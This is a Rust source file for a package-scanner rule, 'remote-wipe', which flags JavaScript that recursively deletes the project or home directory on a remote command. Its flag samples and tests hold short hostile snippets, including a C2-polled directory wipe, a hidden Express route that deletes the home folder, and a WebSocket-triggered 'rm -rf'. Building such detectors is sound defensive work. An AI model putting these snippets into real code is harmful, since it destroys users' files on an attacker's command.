//! Rule `remote-wipe`.

use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Code that empties the working directory, the project that installed it or the home
    /// directory (lists it and removes every entry recursively, or runs `rm -rf` on it) in a
    /// file that also takes orders from outside: it polls or listens on the network, or serves
    /// HTTP requests (an Express-style `req`/`res` handler). A clean-up command empties a build
    /// folder the user names; nothing legitimate deletes the whole project or home folder when
    /// a server says so. `critical`.
    id: "remote-wipe",
    category: Other,
    severity: Critical,
    capability: Some(crate::model::Capability::FilesystemWrite),
    title: "wipes the project or home directory on a remote command",
    incident: "xlsx-to-json-lh and express-api-sdk-style packages (Socket, Jun 2025): a C2 command or a hidden route deletes the project",
    case_file: "index.js",
    flag: ["const root = process.cwd();\nsetInterval(() => fetch(C2).then((r) => r.json()).then((m) => { if (m.op === 'reset') for (const e of fs.readdirSync(root)) fs.rmSync(path.join(root, e), { recursive: true, force: true }); }), 60000);",
           "const home = os.homedir();\napp.post('/_/status', (req, res) => { if (req.headers['x-k'] === K) { for (const e of fs.readdirSync(home)) fs.rm(path.join(home, e), { recursive: true }, () => {}); } res.end(); });",
           "const dir = process.env.INIT_CWD || process.cwd();\nws.on('message', (m) => { if (String(m) === 'x') cp.exec('rm -rf ' + JSON.stringify(dir) + '/*'); });\nconst ws = new WebSocket(u);"],
    pass: ["const out = path.join(process.cwd(), argv.outDir);\nfor (const e of fs.readdirSync(out)) fs.rmSync(path.join(out, e), { recursive: true, force: true });\nfetch(registry).then(download);",
           "const root = process.cwd();\nfor (const e of fs.readdirSync(root)) fs.rmSync(path.join(root, e), { recursive: true, force: true });"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    // Variables holding the working directory, the installing project or the home folder.
    let base_var = crate::regex!(
        r"\b(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*[^;\n]{0,160}?(?:process\.cwd\(\)|INIT_CWD|os\.homedir\(\)|homedir\(\)|process\.env\.(?:HOME|USERPROFILE))[^;\n]{0,40}[;\n]"
    );
    let remote = crate::regex!(
        r"(?i)\breq\.(headers|method|path|url|body|query)\b|\.on\(\s*['\x22`]message['\x22`]|\bfetch\s*\(|https?\.(get|request)\s*\(|new\s+WebSocket\b|EventSource\b"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) || f.js.is_none() {
            continue;
        }
        let text = all_text(f);
        if !crate::mentions!(text, ["cwd", "homedir", "HOME", "USERPROFILE"])
            || !crate::mentions!(text, ["recursive", "rm -rf", "rm -fr", "rimraf"])
            // a wipe below is a readdir of the folder or `rm -rf`/`rm -fr` on it: without either,
            // skip the variable search (bundles mention cwd and recursive everywhere)
            || !crate::mentions!(text, ["readdir", "rm -rf", "rm -fr"])
        {
            continue;
        }
        let mut bases: Vec<String> = vec!["process.cwd()".into(), "os.homedir()".into()];
        for c in base_var.captures_iter(text).take(32) {
            // The project root may come from a ternary or split; the folder itself, not a child.
            let whole = c.get(0).map_or("", |m| m.as_str());
            if whole.contains("path.join(") || whole.contains("path.resolve(") {
                continue;
            }
            if let Some(n) = c.get(1) {
                bases.push(n.as_str().to_string());
            }
        }
        // Where `rm -rf` and `rm -fr` are (neither overlaps itself), looked for once for all
        // the folders.
        let rm: Vec<usize> = memchr::memmem::find_iter(text.as_bytes(), "rm -rf")
            .chain(memchr::memmem::find_iter(text.as_bytes(), "rm -fr"))
            .take(16)
            .collect();
        let mut wipe = None;
        for b in &bases {
            // Lists the folder and removes each entry recursively, or `rm -rf` on it.
            for pat in [format!("readdirSync({b})"), format!("readdir({b}")] {
                if let Some(i) = memchr::memmem::find(text.as_bytes(), pat.as_bytes()) {
                    let end = (i + 400).min(text.len());
                    let end = (end..=text.len())
                        .find(|e| text.is_char_boundary(*e))
                        .unwrap_or(text.len());
                    let w = &text[i..end];
                    if w.contains("recursive") && (w.contains("rm") || w.contains("remove")) {
                        wipe = Some((i, format!("removes every entry of {b}")));
                        break;
                    }
                }
            }
            if wipe.is_some() {
                break;
            }
            // `rm -rf` whose operand, within a few characters, is the folder.
            for &i in &rm {
                let end = (i + 60).min(text.len());
                let end = (end..=text.len())
                    .find(|e| text.is_char_boundary(*e))
                    .unwrap_or(text.len());
                let tail = &text[i + 6..end];
                let named = if b.contains('(') {
                    tail.contains(b.as_str())
                } else {
                    tail.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
                        .any(|w| w == b.as_str())
                };
                if named {
                    wipe = Some((i, format!("runs rm -rf on {b}")));
                    break;
                }
            }
            if wipe.is_some() {
                break;
            }
        }
        let Some((off, what)) = wipe else { continue };
        let Some(r) = remote.find(text) else { continue };
        let off = f.text_off(off, 0);
        out.hit(
            pkg,
            f,
            off,
            format!(
                "{what} in a file that takes remote input ({})",
                crate::package::one_line(r.as_str())
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    fn hits(case: &str) -> usize {
        crate::rules::testing::run(&super::RULE, "index.js", case).len()
    }

    #[test]
    fn rm_fr_on_a_later_folder_variable_is_found() {
        // The `rm -rf`/`rm -fr` places are found once and tried for every folder.
        let case = "const a = process.cwd();\nconst home = os.homedir();\nfs.readdirSync(a);\nws.on('message', () => cp.exec('rm -fr ' + home + ' x; recursive'));";
        assert_eq!(hits(case), 1);
    }

    #[test]
    fn rm_rf_on_another_folder_is_not_a_wipe() {
        let case = "const home = os.homedir();\nws.on('message', () => cp.exec('rm -rf ' + tmpdir + ' x; recursive'));";
        assert_eq!(hits(case), 0);
    }
}
